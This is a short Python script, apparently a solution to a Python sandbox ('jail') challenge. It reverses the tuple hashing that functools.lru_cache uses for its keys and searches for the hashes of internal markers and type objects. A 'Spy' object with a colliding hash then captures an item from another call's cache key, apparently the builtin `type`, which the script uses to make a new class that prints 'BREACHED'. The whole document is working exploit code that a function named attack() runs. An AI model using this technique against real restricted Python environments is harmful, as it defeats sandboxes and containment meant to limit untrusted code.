# fence: ok | walls: -
# Keys with equal hashes are compared item by item: an argument with the class of an argument of another call. What
# the hashes of the marker of keywords and of `type` are is found by trying the neighbourhood of known addresses.
from functools import lru_cache

ALL, ADD, MULTIPLY, START = 2**64 - 1, 14029467366897019727, 11400714785074694791, 2870177450012600261
ADD_BACK, MULTIPLY_BACK = pow(ADD, -1, 2**64), pow(MULTIPLY, -1, 2**64)

def turn(value, bits):
    return (value << bits | value >> (64 - bits)) & ALL

def forward(state, *lanes):
    for lane in lanes:
        state = turn((state + lane * ADD) & ALL, 31) * MULTIPLY & ALL
    return state

def backward(state, *lanes):
    for lane in reversed(lanes):
        state = (turn(state * MULTIPLY_BACK & ALL, 33) - lane * ADD) & ALL
    return state

def lane_between(before, after):
    lane = (turn(after * MULTIPLY_BACK & ALL, 33) - before) * ADD_BACK & ALL
    return lane - 2**64 if lane >= 2**63 else lane

class Spy:
    def __init__(self, code=0):
        self.code = code
        self.given = []
    def __hash__(self):
        return self.code
    def __eq__(self, other):
        self.given.append(other)
        return True

def neighbours(middle):
    for distance in range(4_000):
        yield middle + distance
        yield middle - distance

@lru_cache(maxsize=None)
def untyped(*arguments, **named):
    return 1

@lru_cache(maxsize=None, typed=True)
def typed(*arguments, **named):
    return 1

def find_marker():
    untyped(x=Spy())
    for marker in neighbours(hash(object())):
        first = Spy()
        last = lane_between(forward(START, 0, 0), forward(START, marker, hash("x"), 0))
        untyped(first, Spy(), Spy(last))
        if first.given:
            return marker

def attack():
    marker, kind, number = find_marker(), hash(Spy), hash(int)
    typed(int, Spy(), Spy())
    for code in neighbours(number):
        wanted = backward(forward(START, number, 0, 0, code, kind, kind), code, kind)
        spy = Spy(lane_between(forward(START, number, marker, hash("x")), wanted))
        typed(int, x=spy)
        if spy.given:
            return spy.given[0]("Made", (), {"__str__": lambda self: "BREACHED"})()

print(attack())
